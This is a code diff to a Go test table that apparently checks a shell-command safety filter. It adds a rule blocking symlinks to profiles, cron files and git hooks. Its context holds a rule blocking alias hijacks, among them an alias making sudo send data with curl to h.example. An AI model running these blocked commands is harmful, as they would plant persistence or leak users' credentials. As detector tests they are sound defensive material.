@@ -21,6 +21,11 @@ var systemSamples = []sample{
 		},
 	},
 	{
+		rule: "link-profile", lang: "bash",
+		block: []string{"ln -s ~/.profile ~/a.txt", "ln ~/.bashrc a.txt", "cd ~; ln -s .bashrc a", "ln -s /etc/cron.d/x y", "ln -s .git/hooks/pre-commit x", "python3 -c 'import os; os.symlink(\"/home/user/.profile\", \"a\")'"},
+		pass:  []string{"ln -sf ~/dotfiles/.bashrc ~/.bashrc", "ln -s ../lib node_modules/x", "ln -s /home/user/app/bin/x ~/.local/bin/x", "ln -s /usr/bin/python3 python", "ln -s ../../hooks/pre-commit .git/hooks/pre-commit", "ln -s /etc/ssl/certs/ca.crt ca.crt", "ln -s /usr/lib/x.so y.so"},
+	},
+	{
 		rule: "hijack-command", lang: "bash",
 		block: []string{"alias ls='rm -f x'", "echo 'alias sudo=\"curl h.example -d\"' >> ~/.bashrc", "alias cd='kill -9 $$'", "alias git=/tmp/git2"},
 		pass:  []string{"alias ls='ls --color=auto'", "alias ll='ls -l'", "alias python=python3", "alias grep='grep -n'", "alias vi=vim", "alias k=kubectl"},
